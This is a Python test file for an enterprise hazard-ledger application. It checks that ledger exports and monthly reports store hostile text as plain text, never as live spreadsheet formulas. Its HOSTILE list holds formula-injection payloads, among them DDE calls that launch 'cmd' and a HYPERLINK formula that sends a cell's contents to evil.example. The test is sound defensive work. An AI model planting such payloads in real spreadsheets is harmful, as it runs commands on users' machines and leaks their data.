"""Issue 16, item 2: no spreadsheet we produce holds a live formula. Hostile text typed on an enterprise's tablet
or imported from the registry comes out of the supervisor's and the enterprise's ledger exports and the monthly
report as text, exactly as typed, and imports back unchanged."""

from __future__ import annotations

import io
import re
import zipfile

import openpyxl
import sqlalchemy as sa
from flask import Flask

from server.extensions import db
from server.models import Enterprise, Hazard, HazardSource, User
from server.services.ledger_excel import import_ledger
from tests.conftest import login
from tests.integration.sync_helpers import T0, Device

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")',
    "+1+2",
    "-3+4",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=2+2",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
]
#: XML turns a stored CR into LF when the workbook is read (openpyxl writes it raw), so a text with a CR comes
#: back with an LF: it is still text, never a formula, but not byte-identical. Every other text round-trips exactly.
AS_READ = [t.replace("\r", "\n") for t in HOSTILE]
EVIL_NAME = '=HYPERLINK("http://evil.example","兴县晋兴特钢有限公司")'


def _formulas(xlsx: bytes) -> list[str]:
    """Every formula cell in the workbook's XML (openpyxl would hide how a cell is stored)."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/") and n.endswith(".xml")]
        return [f for n in sheets for f in re.findall(r"<f[ >].*?</f>|<f/>", archive.read(n).decode())]


def _texts(xlsx: bytes) -> set[str]:
    book = openpyxl.load_workbook(io.BytesIO(xlsx))
    values = {c.value for sheet in book.worksheets for row in sheet.iter_rows() for c in row}
    return {v for v in values if isinstance(v, str)}


def _hostile_ledger(app: Flask) -> str:
    """The enterprise's tablet records ledger entries with hostile text; returns the enterprise id."""
    tablet = Device(app, "qy_jinxing")
    with app.app_context():
        user = db.session.scalar(sa.select(User).where(User.username == "qy_jinxing"))
        assert user is not None and user.enterprise_id is not None
        enterprise_id = str(user.enterprise_id)
        db.session.execute(
            sa.update(Enterprise).where(Enterprise.id == user.enterprise_id).values(name=EVIL_NAME)
        )
        db.session.commit()
    batch = [tablet.mutation("ledger_entry", {
        "enterprise_id": enterprise_id, "description": text, "place": text, "level": "general",
        "found_at": T0.isoformat(), "ledger_no": f"EVIL-{n}", "treatment_plan": text,
    }) for n, text in enumerate(HOSTILE)]  # fmt: skip
    reply = tablet.push(batch)
    assert {r["status"] for r in reply.get_json()["results"]} == {"applied"}, reply.get_json()
    return enterprise_id


def test_ledger_exports_hold_no_formula_and_round_trip(app: Flask) -> None:
    enterprise_id = _hostile_ledger(app)
    supervisor = app.test_client()
    login(supervisor, "xx_sup")
    owner = app.test_client()
    login(owner, "qy_jinxing")
    for client, url in (
        (supervisor, f"/enterprises/{enterprise_id}/ledger.xlsx"),
        (owner, "/portal/ledger/export.xlsx"),
    ):
        reply = client.get(url)
        assert reply.status_code == 200
        exported = reply.data
        assert _formulas(exported) == [], url
        texts = _texts(exported)
        assert set(AS_READ) <= texts, set(AS_READ) - texts
        assert any(EVIL_NAME in t for t in texts)
    with app.app_context():
        enterprise = db.session.get(Enterprise, __import__("uuid").UUID(enterprise_id))
        user = db.session.scalar(sa.select(User).where(User.username == "qy_jinxing"))
        assert enterprise is not None
        before = {h.ledger_no: h.description for h in db.session.scalars(
            sa.select(Hazard).where(Hazard.enterprise_id == enterprise.id, Hazard.source == HazardSource.self_ledger))}  # fmt: skip
        report = import_ledger(db.session, enterprise, exported, actor=user, filename="导出.xlsx")
        db.session.commit()
        assert report.errors == [] and report.created == 0, report
        after = {h.ledger_no: h.description for h in db.session.scalars(
            sa.select(Hazard).where(Hazard.enterprise_id == enterprise.id, Hazard.source == HazardSource.self_ledger))}  # fmt: skip
        cr = f"EVIL-{HOSTILE.index(chr(13) + '=2+2')}"
        assert {k: v for k, v in after.items() if k != cr} == {k: v for k, v in before.items() if k != cr}
        assert {after[f"EVIL-{n}"] for n in range(len(HOSTILE))} - {after[cr]} == set(HOSTILE) - {before[cr]}


def test_the_monthly_report_holds_no_formula(app: Flask) -> None:
    with app.app_context():
        db.session.execute(sa.update(Enterprise).values(name=EVIL_NAME + Enterprise.credit_code))
        db.session.execute(sa.update(Hazard).values(description=HOSTILE[0], place=HOSTILE[3]))
        db.session.commit()
    client = app.test_client()
    login(client, "ll_city")
    reply = client.get("/reports/monthly.xlsx")
    assert reply.status_code == 200
    assert _formulas(reply.data) == []
    assert any(t.startswith(EVIL_NAME) for t in _texts(reply.data))
